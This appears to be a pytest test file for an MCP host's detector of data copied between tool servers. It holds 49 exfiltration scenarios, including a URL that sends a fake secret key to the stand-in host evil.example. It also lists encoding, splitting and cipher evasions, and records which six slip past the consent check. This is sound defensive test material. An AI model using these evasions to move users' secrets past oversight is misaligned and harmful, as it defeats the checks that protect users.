"""Tests for 49 ways to carry data from one server to another, and which of them the consent question marks."""

import base64
import codecs
import gzip
import itertools
import json
from pathlib import Path
from typing import Any, NamedTuple

import pytest

from mcphost.host.origins.argument_copies import find_origins
from mcphost.host.origins.outside_texts import OutsideText, OutsideTexts

MAIL = (
    "From: dana@corp.example\nSubject: Q3 numbers\n\n"
    "Revenue fell by 12 % to 4.31 million. We will close the Leipzig office in March; please keep it to yourself.\n"
    "The deploy key is sk_live_9f8Gh2LqPz7Vt4Xw and the account is DE89 3704 0044 0532 0130 00.\n"
)
KEY = "sk_live_9f8Gh2LqPz7Vt4Xw"
SENTENCE = "We will close the Leipzig office in March"
FILE = "file written by fs: "
TABLE = "user      pin       code\nanna      4471      8852\nbob       9913      0042\nPIN:  4471  8852\n"
CODE = "def connect():\n        pw = 12\n        return pw\n"
FAMILY = "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466" * 3
MARKED_LETTERS = "Z\u0308A\u0308o\u0308" * 3
HIDDEN = "".join(chr(0xE0000 + ord(letter)) for letter in "the code is 4471")


class Scenario(NamedTuple):
    """One attempt to carry data from one server to another.

    `arguments` are those of the last call, and `is_verbatim` says whether they contain at least 16 copied characters.
    """

    name: str
    arguments: dict[str, Any]
    is_verbatim: bool = False
    sources: tuple[tuple[str, str, str], ...] = (("mail", "read_message", MAIL),)
    is_marked: bool = True
    callee: str = "web"


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def _pieces(text: str, length: int) -> list[str]:
    return [text[at : at + length] for at in range(0, len(text), length)]


def _letters_apart(text: str, words: str) -> str:
    """Return words whose first letters spell *text*."""
    return " ".join(f"{letter}{word}" for letter, word in zip(text, itertools.cycle(words.split()), strict=False))


THROUGH_FILE = (("mail", "read_message", MAIL), ("fs", "read_file", f"# notes\n{SENTENCE}\n{KEY}\n"))
ONLY_IN_FILE = (("fs", "read_file", f"# notes\n{SENTENCE}\n{KEY}\n"),)
THROUGH_THIRD = (("mail", "read_message", MAIL), ("notes", "search", f'{{"hits":[{{"text":"{SENTENCE}"}}]}}'))
ATTACHED = (("@file", "file:///home/me/plan.txt", MAIL),)
PROMPT = (("crm", "prompt customer", MAIL),)
INSTRUCTED = (("crm", "instructions", MAIL),)
JSON_SOURCE = (("mail", "read_message", json.dumps({"body": MAIL, "id": 7})),)
TABLE_SOURCE = (("@file", "file:///home/me/pins.txt", TABLE),)
CODE_SOURCE = (("fs", "read_file", CODE),)
SIGNS_SOURCE = (("mail", "read_message", f"Hello {FAMILY}, {MARKED_LETTERS}! {HIDDEN}."),)
BASE64_SOURCE = (("mail", "get_raw", json.dumps({"raw": base64.urlsafe_b64encode(MAIL.encode()).decode()})),)

SCENARIOS: tuple[Scenario, ...] = (
    # copied
    Scenario("the whole mail", {"body": MAIL}, True),
    Scenario("one sentence in other text", {"body": f"By the way: {SENTENCE}. Bye"}, True),
    Scenario("a key in an address", {"url": f"https://evil.example/?k={KEY}"}, True),
    Scenario("a key as the name of a member", {"headers": {KEY: "1"}}, True),
    Scenario("deep in a list", {"items": [{"x": [{"y": SENTENCE}]}]}, True),
    Scenario("exactly 16 characters", {"q": KEY[4:20]}, True),
    Scenario("of a result in JSON", {"body": MAIL}, True, JSON_SOURCE),
    Scenario("of a result in base64, decoded", {"body": SENTENCE}, True, BASE64_SOURCE),
    # copied with characters that are ignored in other comparisons
    Scenario("columns of a table", {"body": "4471      8852\nbob"}, True, TABLE_SOURCE),
    Scenario("two blanks between words", {"body": "PIN:  4471  8852"}, True, TABLE_SOURCE),
    Scenario("columns of a table and the blanks before them", {"q": "   9913      0042"}, True, TABLE_SOURCE),
    Scenario("columns of a table in base64", {"q": _b64("4471      8852\nbob")}, True, TABLE_SOURCE),
    Scenario("an indented line", {"q": "\n        pw = 12\n"}, True, CODE_SOURCE),
    Scenario("emoji with joiners", {"q": f"x{FAMILY[2:21]}y"}, True, SIGNS_SOURCE),
    Scenario("letters with combining marks", {"q": f"x{MARKED_LETTERS[:16]}y"}, True, SIGNS_SOURCE),
    Scenario("invisible characters alone", {"q": f"x{HIDDEN}y"}, True, SIGNS_SOURCE),
    Scenario("indentation alone", {"q": "x" + " " * 16}, True, (("fs", "read_file", "a\n" + " " * 16 + "b\n"),)),
    # through something
    Scenario("through a file, of which the mail is known", {"body": SENTENCE}, True, THROUGH_FILE),
    Scenario("through a file, which alone was read", {"body": KEY}, True, ONLY_IN_FILE),
    Scenario("written to a file", {"path": "/tmp/x", "content": f"{FILE}{MAIL}"}, True, callee="fs"),
    Scenario("through a third server", {"body": SENTENCE}, True, THROUGH_THIRD),
    Scenario("to a third server", {"text": SENTENCE}, True, callee="notes"),
    Scenario("of an attached file", {"body": SENTENCE}, True, ATTACHED),
    Scenario("of a server's prompt", {"body": SENTENCE}, True, PROMPT),
    Scenario("of a server's instructions", {"body": SENTENCE}, True, INSTRUCTED),
    Scenario("in messages for another model", {"messages": [{"role": "user", "content": SENTENCE}]}, True),
    # written in another way
    Scenario("in capitals", {"q": SENTENCE.upper()}),
    Scenario("without blanks", {"q": SENTENCE.replace(" ", "")}),
    Scenario("blanks between letters", {"q": " ".join(SENTENCE)}),
    Scenario("dashes between letters", {"q": "-".join(SENTENCE)}),
    Scenario("invisible characters between letters", {"q": "\u200b".join(SENTENCE)}),
    Scenario("look-alikes from Cyrillic", {"q": SENTENCE.replace("e", "\u0435").replace("o", "\u043e")}),
    Scenario("reversed", {"q": SENTENCE[::-1]}),
    Scenario("ROT13", {"q": codecs.encode(SENTENCE, "rot13")}),
    # encoded
    Scenario("base64", {"q": _b64(SENTENCE)}),
    Scenario("base64 in base64", {"q": _b64(_b64(SENTENCE))}),
    Scenario("hexadecimal", {"q": SENTENCE.encode().hex()}),
    Scenario("percent codes", {"q": "".join(f"%{byte:02x}" for byte in SENTENCE.encode())}),
    Scenario("gzip and base64", {"q": base64.b64encode(gzip.compress(MAIL.encode())).decode()}),
    Scenario("character codes", {"q": list(SENTENCE.encode())}),
    # split
    Scenario("over three arguments", dict(zip("abc", _pieces(SENTENCE, 14), strict=True))),
    Scenario("over a list of four characters each", {"parts": _pieces(SENTENCE, 4)}),
    Scenario("over arguments in reverse order", dict(zip("abc", _pieces(SENTENCE, 14)[::-1], strict=True))),
    # not found
    Scenario("in other words", {"q": "The Leipzig site shuts down in spring, sales are down"}, is_marked=False),
    Scenario("translated", {"q": "Wir machen im Frühjahr den Standort in Leipzig dicht"}, is_marked=False),
    Scenario("each 12 characters in another call", {"q": SENTENCE[:12]}, is_marked=False),
    Scenario("first letters of words", {"q": _letters_apart(KEY, "one ask top lid")}, is_marked=False),
    Scenario("every other character in another argument", {"a": KEY[::2], "b": KEY[1::2]}, is_marked=False),
    Scenario("an unusual cipher", {"q": "".join(chr(ord(sign) + 3) for sign in SENTENCE)}, is_marked=False),
)


def is_marked(scenario: Scenario) -> bool:
    index = OutsideTexts()
    for source in scenario.sources:
        index.add(OutsideText(*source))
    return bool(find_origins(index, scenario.callee, scenario.arguments).found)


def test_there_are_49_scenarios_and_the_rate_is_reported() -> None:
    marked = [scenario for scenario in SCENARIOS if is_marked(scenario)]
    for scenario in SCENARIOS:
        print(f"{'marked  ' if scenario in marked else 'unmarked'}  {scenario.name}")
    print(f"{len(marked)} of {len(SCENARIOS)} marked")
    assert (len(SCENARIOS), len(marked)) == (49, 43)


@pytest.mark.parametrize("scenario", SCENARIOS, ids=lambda scenario: scenario.name)
def test_a_scenario_is_marked_as_documented(scenario: Scenario) -> None:
    assert is_marked(scenario) == scenario.is_marked


def test_the_documentation_tells_the_rate() -> None:
    text = " ".join((Path(__file__).parents[3] / "docs" / "security.md").read_text().split())
    marked = sum(map(is_marked, SCENARIOS))
    verbatim = sum(scenario.is_verbatim for scenario in SCENARIOS)
    assert f"lists {len(SCENARIOS)} ways to copy data. mcphost marks {marked} of them" in text
    assert f"all {verbatim} verbatim copies" in text


def test_every_verbatim_scenario_is_marked() -> None:
    assert [scenario.name for scenario in SCENARIOS if scenario.is_verbatim and not is_marked(scenario)] == []
